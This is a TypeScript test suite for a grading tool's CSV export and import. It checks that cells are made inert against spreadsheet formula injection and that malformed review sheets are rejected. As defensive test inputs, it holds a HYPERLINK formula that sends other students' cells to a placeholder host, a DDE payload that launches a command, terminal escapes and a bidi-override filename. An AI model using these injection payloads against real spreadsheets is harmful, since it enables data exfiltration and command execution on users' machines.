// TA-side hostile corpus, CSV: names, ids and answers that would run as formulas or hide characters in a spreadsheet are
// written inert and read back exactly; sheets that are ambiguous or wrong are refused with row, column and a stable code.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { inertText, readCsv, textOf, writeCsv } from '../../grader/util/csv.js';
import { renderGradebook } from '../../grader/class-report/gradebook.js';
import { applyDecisions, keyOf, type Decision } from '../../grader/review/reviews.js';
import {
  ANSWER_CHARS,
  CSV_COLUMNS,
  exportCsv,
  importCsv,
  type CsvProblemCode,
} from '../../grader/review/reviews-csv.js';
import { reviewQueue } from '../../grader/review/review-session.js';
import type { Graded } from '../../grader/model/student.js';
import { gradedOf, reviewReport } from '../unit/batch/review-fixtures.js';

const rowsOf = (text: string): string[][] => {
  const r = readCsv(text);
  if ('error' in r) throw new Error(`${r.error.code}: ${r.error.message}`);
  return r.rows;
};

// What a text cell must be written as (between the commas), and so what a spreadsheet sees: never a formula, never a
// raw control or bidi character.
const WRITTEN: [string, string, string][] = [
  [
    "a free-text answer linking other students' cells",
    '=HYPERLINK("https://x/?d="&K2&K4,"Open")',
    `"'=HYPERLINK(""https://x/?d=""&K2&K4,""Open"")"`,
  ],
  ['an id that Excel computes', '-3+4', "'-3+4"],
  ['a formula after a ; (a ;-separated locale splits there)', 'x;=1+1;y', `"'x;=1+1;y"`],
  ['a formula after a comma', 'a,=1+1', `"'a,=1+1"`],
  ['a formula after a tab', 'a\t@SUM(A1)', `"'a\t@SUM(A1)"`],
  ['a formula after a |', 'a|+1', `"'a|+1"`],
  ['a leading +', '+1', "'+1"],
  ['a leading @', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['a leading tab', '\t=1', `"'\t=1"`],
  ['a leading CR (escaped, so no longer leading)', '\r=1', '\\u{D}=1'],
  ['spaces, then =', '  =1', "'  =1"],
  ['a full-width equals sign', '\uff1d1+1', "'\uff1d1+1"],
  ['text that starts with an apostrophe (one more, taken off on read)', "'quoted", "''quoted"],
  ['a DDE payload', "=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ['a terminal escape', '\u001b[2Jcleared', '\\u{1B}[2Jcleared'],
  ['a NUL', 'a\u0000b', 'a\\u{0}b'],
  ['an 8-bit CSI', 'a\u009b31mred', 'a\\u{9B}31mred'],
  ['a right-to-left override (Trojan source)', 'ana\u202egpj.exe', 'ana\\u{202E}gpj.exe'],
  ['a bidi isolate', 'x\u2066y\u2069', 'x\\u{2066}y\\u{2069}'],
  ['a left-to-right mark', 'x\u200ey', 'x\\u{200E}y'],
  ['DEL', 'x\u007fy', 'x\\u{7F}y'],
  ['a lone surrogate (UTF-8 cannot hold it)', 'x\ud800y', 'x\\u{D800}y'],
  ['a literal \\u{41} in an answer', 'see \\u{41}', 'see \\u{5C}u{41}'],
  ['a plain backslash', 'C:\\dir', 'C:\\dir'],
  ['a line break (kept, quoted)', 'two\nlines', '"two\nlines"'],
  ['quotes', 'say "hi"', '"say ""hi"""'],
  ['an emoji and accents (untouched)', 'Zoë 😀', 'Zoë 😀'],
  ['a hyphen inside a name (not leading: untouched)', 'Jean-Luc', 'Jean-Luc'],
];

describe('every CSV cell tfgrade writes', () => {
  it.each(WRITTEN)('%s: written inert, read back exactly', (_, text, written) => {
    expect(writeCsv([[text, 'end']])).toBe(`${written},end\r\n`);
    expect(rowsOf(writeCsv([[text, 'end']]))[0].map(textOf)).toEqual([text, 'end']);
  });

  it.each([
    [2, '2'],
    [1.5, '1.5'],
    [0, '0'],
    [1e-7, '0.0000001'],
    [1.25e21, '1250000000000000000000'],
    [1 / 3, '0.3333333333333333'],
  ])('the number %s stays a number: %s', (x, written) => {
    expect(writeCsv([[x]])).toBe(`${written}\r\n`);
    expect(Number(written)).toBe(x);
  });

  it('gradebook.csv: a hostile name, id or section is text in any spreadsheet; scores stay numbers', () => {
    const g = (id: string, identity: Graded['identity']): Graded => ({ ...gradedOf(reviewReport(id)), identity });
    const text = renderGradebook(
      [g('-3+4', {}), g('b', { name: 'x;=1+1;y', userId: '=1', section: '\u001b[31mL1' })],
      [{ id: 'e1', maxScore: 3 }],
    );
    expect(text.split('\r\n')).toEqual([
      'Student,ID,SIS User ID,SIS Login ID,Section,e1',
      'Points Possible,,,,,3',
      "'-3+4,,,,,1",
      `"'x;=1+1;y",'=1,,,\\u{1B}[31mL1,1`,
      '',
    ]);
  });

  it('any text at all survives the writer and the reader (property)', () => {
    const hostile = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '\r\n',
      ';',
      ',',
      '|',
      '"',
      "'",
      '\\',
      'u{',
      '\u001b',
      '\u202e',
      '\ud800',
      '\udc00',
      ' ',
      '\uff1d',
      '\u0000',
    );
    const text = fc
      .array(fc.oneof(hostile, fc.string({ unit: 'binary', maxLength: 4 })), { maxLength: 8 })
      .map((xs) => xs.join(''));
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const back = rowsOf(writeCsv(rows));
        expect(back.map((r) => r.map(textOf))).toEqual(rows);
        // What a spreadsheet sees in each cell: no formula start, no raw control or bidi character.
        for (const cell of back.flat()) {
          if (!cell.startsWith("'")) expect(cell).not.toMatch(/^ *[=+\-@\t\r\uff1d]|[,;\t|][=+\-@\t\r]/);
          // eslint-disable-next-line no-control-regex
          expect(cell).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
        }
      }),
      { numRuns: 300 },
    );
  });
});

// ------------------------------------------------------------------ the review sheet: export, then import

/** Arbitrary text with the characters that break CSVs and spreadsheets mixed in. */
const hostileText = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        ';',
        ',',
        '"',
        "'",
        '\\u{41}',
        '\u001b[2J',
        '\u202e',
        '\ud800',
        ' ',
        'HYPERLINK("x")',
      ),
      fc.string({ unit: 'binary', maxLength: 5 }),
    ),
    { minLength: 1, maxLength: 6 },
  )
  .map((xs) => xs.join(''));

describe('grade review --export, then --import (property): any ids, answers, comments and reasons come back the same', () => {
  it('holds for 150 classes', () => {
    const klass = fc.record({
      ids: fc.uniqueArray(hostileText, { minLength: 1, maxLength: 4 }),
      exercise: hostileText,
      parts: fc.uniqueArray(hostileText, { minLength: 2, maxLength: 2 }),
      answers: fc.array(fc.string({ unit: 'binary', maxLength: 700 }), { minLength: 4, maxLength: 4 }),
      comments: fc.array(fc.option(hostileText), { minLength: 4, maxLength: 4 }),
      reasons: fc.array(fc.option(hostileText.filter((s) => s.trim() !== '')), { minLength: 4, maxLength: 4 }),
      scores: fc.array(fc.constantFrom(0, 0.5, 1, 1.25, 2), { minLength: 4, maxLength: 4 }),
    });
    fc.assert(
      fc.property(klass, (k) => {
        const decisions: Decision[] = [];
        const graded = k.ids.map((id, i) => {
          const r = reviewReport(id, { suggested: 1, answer: k.answers[i] });
          const ex = {
            ...r.exercises[0],
            id: k.exercise,
            parts: r.exercises[0].parts.map((p, j) => ({ ...p, id: k.parts[j] })),
          };
          const at = { exercise: k.exercise, by: 'ta', at: '2026-01-01T00:00:00.000Z' };
          if (k.scores[i] !== 0.5)
            decisions.push({
              ...at,
              student: id,
              part: k.parts[1],
              kind: 'review',
              score: k.scores[i],
              answerHash: `hash-${id}`,
              ...(k.comments[i] ? { comment: k.comments[i]! } : {}),
            });
          if (k.reasons[i])
            decisions.push({
              ...at,
              student: id,
              part: k.parts[0],
              kind: 'override',
              score: Math.min(1, k.scores[i]),
              reason: k.reasons[i]!,
              answerHash: `code-${id}`,
            });
          return gradedOf(applyDecisions({ ...r, exercises: [ex] }, decisions).report);
        });
        const sheet = exportCsv(reviewQueue(graded), graded);
        const rows = rowsOf(sheet).map((r) => r.map(textOf));
        expect(rows[0]).toEqual([...CSV_COLUMNS]);
        // Every answer is in the sheet as the student wrote it (its first 500 characters).
        const answers = new Map(
          rows
            .slice(1)
            .filter((r) => r[2] === k.parts[1])
            .map((r) => [r[0], r[10]]),
        );
        k.ids.forEach((id, i) =>
          expect(answers.get(id)).toBe(Array.from(k.answers[i]).slice(0, ANSWER_CHARS).join('')),
        );
        const back = importCsv(sheet, graded);
        expect(back.problems).toEqual([]);
        const strip = ({ by: _b, at: _a, ...d }: Decision) => d;
        const byKey = (a: { student: string; exercise: string; part: string }, b: typeof a) =>
          keyOf(a) < keyOf(b) ? -1 : 1;
        expect([...back.decisions].sort(byKey)).toEqual(decisions.map(strip).sort(byKey));
      }),
      { numRuns: 150 },
    );
  });
});

// ------------------------------------------------------------------ hostile sheets: each refused with its code

const klass = (): Graded[] => ['ana', 'ben', '-3+4'].map((s) => gradedOf(reviewReport(s, { suggested: 1.5 })));
const HEAD = CSV_COLUMNS.join(',');
/** A sheet row for a student's p2: score and comment as given (raw, as a spreadsheet would write them). */
const row = (
  student: string,
  score: string,
  comment = '',
  more: Partial<Record<'kind' | 'reason' | 'hash', string>> = {},
) =>
  `${student},e1,p2,2,1.5,${score},${more.kind ?? 'review'},${comment},${more.reason ?? ''},${more.hash ?? ''},answer`;

// The report that opened this: one unterminated quote swallowed the following rows into one student's comment.
const swallowing = [HEAD, row('ana', '2', '"fine, but'), row('ben', '1', 'ok'), row("'-3+4", '0', 'blank'), ''].join(
  '\n',
);

const REFUSED: [string, string, CsvProblemCode, number, string][] = [
  ['an unterminated quote (the rows after it would vanish into a comment)', swallowing, 'UNCLOSED_QUOTE', 2, 'comment'],
  ['a stray quote inside a cell', [HEAD, row('ana', '2', 'say "hi"')].join('\n'), 'STRAY_QUOTE', 2, 'comment'],
  ['a text after a closing quote', [HEAD, row('ana', '2', '"ok"x')].join('\n'), 'STRAY_QUOTE', 2, 'comment'],
  ['a row with one cell too many', [HEAD, `${row('ana', '2')},extra`].join('\n'), 'CELL_COUNT', 2, '(any)'],
  ['a row with cells missing', [HEAD, 'ana,e1,p2,2'].join('\n'), 'CELL_COUNT', 2, '(any)'],
  ['an empty line between rows', [HEAD, row('ana', '2'), '', row('ben', '1')].join('\n'), 'CELL_COUNT', 3, '(any)'],
  [
    'a bare CR as line end (old Mac)',
    [HEAD, row('ana', '2'), row('ben', '1')].join('\r'),
    'CONTROL_CHARACTER',
    1,
    'answer\\u{D}ana',
  ],
  [
    'a raw escape sequence in a comment',
    [HEAD, row('ana', '2', '\u001b[2J')].join('\n'),
    'CONTROL_CHARACTER',
    2,
    'comment',
  ],
  [
    'a raw right-to-left override in a comment',
    [HEAD, row('ana', '2', 'ok\u202e')].join('\n'),
    'CONTROL_CHARACTER',
    2,
    'comment',
  ],
  ['a raw CR inside a quoted comment', [HEAD, row('ana', '2', '"a\rb"')].join('\n'), 'CONTROL_CHARACTER', 2, 'comment'],
  [
    'an id with a trailing space (ids are never trimmed)',
    [HEAD, row('ana ', '2')].join('\n'),
    'UNKNOWN_STUDENT',
    2,
    'student',
  ],
  ['a hexadecimal score', [HEAD, row('ana', '0x2')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['a binary score', [HEAD, row('ana', '0b1')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['a signed exponent score', [HEAD, row('ana', '+2e0')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['an exponent score', [HEAD, row('ana', '2e0')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['a score with a space', [HEAD, row('ana', ' 2')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['a score with a decimal comma', [HEAD, row('ana', '"1,5"')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['a score without a leading digit', [HEAD, row('ana', '.5')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['Infinity', [HEAD, row('ana', 'Infinity')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['NaN', [HEAD, row('ana', 'NaN')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['a negative score', [HEAD, row('ana', '-1')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ['a formula as a score', [HEAD, row('ana', '=2')].join('\n'), 'BAD_SCORE', 2, 'score'],
  ["a score above the part's points", [HEAD, row('ana', '2.5')].join('\n'), 'SCORE_OUT_OF_RANGE', 2, 'score'],
  ['a kind with a space', [HEAD, row('ana', '2', '', { kind: ' review' })].join('\n'), 'BAD_KIND', 2, 'kind'],
  [
    'an override whose reason is blank',
    [HEAD, row('ana', '2', '', { kind: 'override', reason: '   ' })].join('\n'),
    'MISSING_REASON',
    2,
    'reason',
  ],
  [
    'an answer changed since the export',
    [HEAD, row('ana', '2', '', { hash: 'older' })].join('\n'),
    'ANSWER_CHANGED',
    2,
    'answer_hash',
  ],
  [
    'two rows deciding one part differently',
    [HEAD, row('ana', '2'), row('ben', '1'), row('ana', '1')].join('\n'),
    'CONFLICTING_ROWS',
    4,
    'score',
  ],
  ['two columns with one name', [`${HEAD},score`, `${row('ana', '2')},1`].join('\n'), 'DUPLICATE_COLUMN', 1, 'score'],
  [
    'a column the sheet does not have',
    [`${HEAD},notes`, `${row('ana', '2')},x`].join('\n'),
    'UNKNOWN_COLUMN',
    1,
    'notes',
  ],
  [
    'a ;-separated sheet (a spreadsheet in another locale)',
    [CSV_COLUMNS.join(';'), row('ana', '2').replace(/,/g, ';')].join('\n'),
    'UNKNOWN_COLUMN',
    1,
    CSV_COLUMNS.join(';'),
  ],
];

describe('grade review --import refuses a hostile or ambiguous sheet whole', () => {
  it.each(REFUSED)('%s', (_, sheet, code, rowNo, column) => {
    const { decisions, problems } = importCsv(sheet, klass());
    expect(problems).toContainEqual(expect.objectContaining({ code, row: rowNo, column }));
    // The command writes nothing when any row is bad; a syntax error yields no rows at all.
    if (['UNCLOSED_QUOTE', 'STRAY_QUOTE', 'CELL_COUNT'].includes(code)) expect(decisions).toEqual([]);
  });

  it('names both rows of a conflict', () => {
    const { problems } = importCsv([HEAD, row('ana', '2'), row('ben', '1'), row('ana', '1')].join('\n'), klass());
    expect(problems).toHaveLength(1);
    expect(problems[0].message).toMatch(/rows 2 and 4/);
  });

  it('accepts the same decision twice as one, an exported (apostrophe) id, and a CRLF sheet with a BOM', () => {
    const sheet =
      '\uFEFF' +
      [
        HEAD,
        row('ana', '2', 'ok'),
        row('ana', '2', 'ok'),
        row(inertText('-3+4'), '1.5', `"${inertText('=1+1; "x"').replace(/"/g, '""')}"`),
      ].join('\r\n') +
      '\r\n\r\n';
    const { decisions, problems } = importCsv(sheet, klass());
    expect(problems).toEqual([]);
    expect(decisions.map((d) => [d.student, d.score, d.comment])).toEqual([
      ['ana', 2, 'ok'],
      ['-3+4', 1.5, '=1+1; "x"'],
    ]);
  });

  it('an empty score is no decision, whatever else the row holds', () => {
    expect(importCsv([HEAD, row('ana', ''), row('nobody', '')].join('\n'), klass())).toEqual({
      decisions: [],
      problems: [],
    });
  });

  it.each(['0', '2', '1.75', '02'])(
    'a plain decimal %s is a score, and so is the exported id without its apostrophe',
    (text) => {
      expect(importCsv([HEAD, row('-3+4', text)].join('\n'), klass()).decisions).toEqual([
        expect.objectContaining({ student: '-3+4', score: Number(text) }),
      ]);
    },
  );
});
